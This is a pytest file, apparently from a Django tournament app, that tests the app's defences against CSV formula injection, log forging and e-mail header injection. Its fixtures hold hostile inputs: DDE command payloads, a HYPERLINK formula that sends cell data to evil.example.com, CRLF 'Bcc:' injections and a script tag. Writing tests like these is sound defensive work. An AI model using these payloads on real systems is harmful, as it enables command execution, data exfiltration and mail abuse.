"""What people write does not become a formula, a line of the log, or a header of an e-mail."""

import ast
import csv
import io
import json
import logging
from pathlib import Path

import pytest
from django.core.mail import EmailMessage

from accounts import links
from accounts.links import Kind
from comms.senders import email
from dayrade import files, logs
from tests.drills.test_addresses import sources
from tests.factories.accounts import UserFactory
from tests.factories.comms import EmailTemplateFactory, NotificationFactory
from tests.factories.tournaments import TournamentFactory
from tests.live.server import ROOT

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example.com?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
]
BREAKING = [
    'a","=1+1',
    'a"\n"=1+1',
    "a\r\n=1+1,b",
    "a\nb",
    "a\rb",
    '""',
    '"',
    ",",
    ";=1+1",
    "'=1+1",
    "\ufeffa",
    "\u2028a\u2029",
    "ž\U0001f600\u202e",
    "x" * 100_000,
]
FIRST = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


@pytest.mark.parametrize("text", [*FORMULAS, *BREAKING], ids=lambda text: repr(text)[:40])
def test_text_stays_one_cell_and_no_formula(text):
    rows = [("a", text, text, 1), ("b", text, None, 2)]

    content = b"".join(files.as_csv(("name", "x", "y", "n"), rows)).decode()
    read = list(csv.reader(io.StringIO(content, newline="")))

    assert [len(row) for row in read] == [4, 4, 4]
    assert [row[0] for row in read] == ["name", "a", "b"]
    for cell in (read[1][1], read[1][2], read[2][1]):
        assert cell in (text, f"'{text}")
        assert cell[0] not in FIRST


def test_every_export_is_written_in_one_way():
    writers = {
        name
        for name, tree in sources()
        for node in ast.walk(tree)
        if isinstance(node, ast.Attribute) and ast.unparse(node) == "files.as_csv"
    }
    others = {
        name
        for name, tree in sources()
        for node in ast.walk(tree)
        if isinstance(node, ast.Attribute) and ast.unparse(node) in ("csv.writer", "csv.DictWriter")
    }

    assert writers == {"administration/exports.py", "market/pages.py", "trading/desk/exports.py"}
    assert others == {"dayrade/files.py"}
    # Where it says in a header that this is CSV, it is of these.
    named = {
        path.relative_to(ROOT).as_posix()
        for app in ("accounts", "administration", "comms", "dayrade", "market", "trading")
        for path in Path(ROOT, app).rglob("*.py")
        if "text/csv" in path.read_text()
    }
    assert named == writers


LINES = [
    "a\nINFO forged",
    "a\r\nb",
    'a"}\n{"level": "ERROR", "message": "forged"}',
    "\x1b[2J\x1b[31mred",
    "\x00\x07\x08\x7f\x9b",
    "\u2028a\u2029b\u0085c",
    "\u202egnp.exe",
    "\ud800",
    "ž\U0001f600",
    "%s %(message)s {0}",
]


def written(formatter, text, *, fields=None):
    """Return what a record becomes that has the text wherever one can be."""
    raised = (ValueError, ValueError(text), None)
    record = logging.LogRecord("dayrade", logging.INFO, "", 0, "said %s", (text,), raised)
    record.request_id = "r"
    if fields is not None:
        record.fields = fields
    return formatter.format(record)


@pytest.mark.parametrize("text", LINES)
def test_record_is_one_line_of_json(text):
    line = written(logs.JsonFormatter(), text, fields={"actor": text})

    told = json.loads(line)
    assert not any(sign < " " or sign > "~" for sign in line)
    assert (told["level"], told["message"], told["actor"]) == ("INFO", f"said {text}", text)


@pytest.mark.parametrize("text", LINES)
def test_line_of_development_is_one_line(text):
    formatter = logs.Formatter("%(levelname)s %(message)s")
    record = logging.LogRecord("dayrade", logging.INFO, "", 0, "said %s", (text,), None)

    line = formatter.format(record)

    assert len(line.splitlines()) == 1
    assert logs.CONTROLS.search(line) is None


@pytest.mark.parametrize("formatter", [logs.JsonFormatter(), logs.Formatter("%(message)s")])
def test_huge_text_is_cut(formatter):
    line = written(formatter, "x" * 1_000_000)

    assert len(line) < 3 * logs.LONGEST


HEADERS = [
    "Ada\r\nBcc: all@example.com",
    "Ada\nBcc: all@example.com",
    "Ada\rBcc: all@example.com",
    "Ada\x0bBcc: a@example.com",
    "Ada\x0cBcc: a@example.com",
    "Ada\x85Bcc: a@example.com",
    "Ada\u2028Bcc: a@example.com",
    "Ada%0d%0aBcc: a@example.com",
    "=?utf-8?q?Ada=0d=0aBcc=3a_a=40example.com?=",
    "\r\n\r\n<script>alert(1)</script>",
    "Ada <a@example.com>, b@example.com",
    "x" * 5000 + "\r\nBcc: a@example.com",
]


def headers_of(message):
    return {name: value for name, value in message.message().items() if name != "Content-Type"}


@pytest.mark.django_db
@pytest.mark.parametrize("text", HEADERS, ids=lambda text: repr(text)[:40])
@pytest.mark.parametrize("templated", [False, True])
def test_no_text_becomes_a_header_of_an_email(text, templated):
    user = UserFactory(first_name=text[:90], username="ada-1815")
    tournament = TournamentFactory(name=text[:200])
    notification = NotificationFactory(
        user=user, tournament=tournament, title=text[:250], message=text, type="announcement"
    )
    if templated:
        EmailTemplateFactory(
            template_type="announcement",
            subject="{{ name }} {{ title }} {{ tournament }}",
            content="{{ name }}: {{ message }}",
            variables=["name", "title", "tournament", "message"],
            is_active=True,
        )

    made = email.written(notification)
    made.to = [user.email]

    assert set(headers_of(made)) == {
        *("Subject", "From", "To", "Date", "Message-ID", "MIME-Version"),
    }
    assert made.message()["To"] == user.email
    assert len(str(made.subject).splitlines()) == 1
    assert made.recipients() == [user.email]
    (html,) = (content for content, kind in made.alternatives if kind == "text/html")
    assert "<script" not in html


@pytest.mark.django_db
@pytest.mark.parametrize("text", HEADERS, ids=lambda text: repr(text)[:40])
def test_no_name_gets_into_a_link(settings, text):
    settings.FRONTEND_URL = "https://dayrade.example.com"
    user = UserFactory(first_name=text[:90], last_name=text[:90], unverified=True)

    made = links.message(Kind.VERIFY_EMAIL, user)

    assert "Bcc" not in made.subject + made.body
    assert "script" not in made.body
    assert made.recipients() == [user.email]


@pytest.mark.parametrize("text", ["Ada\nBcc: a@example.com", "Ada\rBcc: a@example.com"])
@pytest.mark.parametrize("place", ["subject", "from_email", "to", "reply_to"])
def test_framework_refuses_what_gets_that_far(text, place):
    value = [text] if place in ("to", "reply_to") else text
    message = EmailMessage(**{"subject": "a", "to": ["a@example.com"], place: value})

    with pytest.raises(ValueError, match=r"newline|linefeed|Header"):
        message.message()
